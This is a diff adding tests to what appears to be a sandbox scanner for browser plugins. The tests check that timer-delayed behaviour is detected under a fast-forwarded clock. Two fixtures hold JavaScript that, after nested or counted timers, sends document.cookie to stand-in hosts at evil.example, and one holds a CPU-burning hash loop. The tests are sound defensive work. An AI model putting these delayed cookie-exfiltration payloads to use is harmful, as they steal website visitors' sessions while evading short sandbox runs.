@@ -280,6 +280,61 @@ def test_a_token_read_after_unmount_is_counted(pool: BrowserPool, tmp_path: Path
     assert [e["count"] for e in events if e["type"] == "token-read"] == [1]
 
 
+def test_a_timer_set_by_a_timer_fires_within_the_jump(pool: BrowserPool, tmp_path: Path) -> None:
+    """Each timer fires at its own due time: one set 1 h 12 min in, for a minute later,
+    fires within the six-hour jump as it would on a visitor's page."""
+    body = (
+        "setTimeout(function () { setTimeout(function () {"
+        " fetch('https://n.evil.example/?c=' + encodeURIComponent(document.cookie)); }, 61000); },"
+        " 4300 * 1000);"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert "runtime-exfiltration" in _rules(findings)
+
+
+def test_a_busy_decoy_timer_does_not_starve_a_counter(pool: BrowserPool, tmp_path: Path) -> None:
+    """A 1 ms interval doing nothing takes its share of a jump, not all of it: a payload
+    counting the ticks of a one-second interval still reaches 500."""
+    body = (
+        "setInterval(function () {}, 1); var n = 0; setInterval(function () { n += 1;"
+        " if (n === 500) fetch('https://t.evil.example/?c=' + encodeURIComponent(document.cookie)); },"
+        " 1000);"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert "runtime-exfiltration" in _rules(findings)
+
+
+def test_a_chain_of_timeouts_is_capped_like_an_interval(pool: BrowserPool, tmp_path: Path) -> None:
+    """A poll written as a timeout that sets the next one is one line of timers: bounded
+    per jump, like an interval, so it is neither a flood nor CPU burn."""
+    body = (
+        "(function poll() { ctx.api.fetch('/messages').catch(function () {});"
+        " setTimeout(poll, 5000); })();"
+    )
+    findings, result = _run(pool, _plugin(tmp_path, body))
+    assert [f for f in findings if f.severity >= Severity.MEDIUM] == []
+    events = json.loads(result.artifacts["trace-user.json"])["events"]
+    polls = [e for e in events if e["type"] == "request" and "/messages" in e.get("url", "")]
+    assert 100 < len(polls) < 600
+
+
+def test_a_light_ticker_is_not_a_burn_and_a_heavy_one_is(pool: BrowserPool, tmp_path: Path) -> None:
+    """Hours of an interval's ticks run in a moment are the clock's doing: a ticker doing
+    a little work each time is quiet, one doing tens of milliseconds of hashing is not."""
+
+    def ticker(work_ms: int, every_ms: int) -> str:
+        return (
+            f"setInterval(function () {{ var end = performance.now() + {work_ms}, h = 1;"
+            " while (performance.now() < end) { h = Math.imul(h ^ 7, 16777619); }"
+            f" container.textContent = String(h); }}, {every_ms});"
+        )
+
+    light, _ = _run(pool, _plugin(tmp_path / "light", ticker(2, 50)))
+    assert [f for f in light if f.severity >= Severity.MEDIUM] == []
+    heavy, _ = _run(pool, _plugin(tmp_path / "heavy", ticker(40, 100)))
+    assert "runtime-cpu-burn" in _rules(heavy)
+
+
 def test_a_payload_counting_interval_ticks_still_fires(pool: BrowserPool, tmp_path: Path) -> None:
     """Ticks that do nothing we record are not capped: a payload that acts after 500
     ticks of a one-second interval (eight minutes on the page) fires within the jumps."""
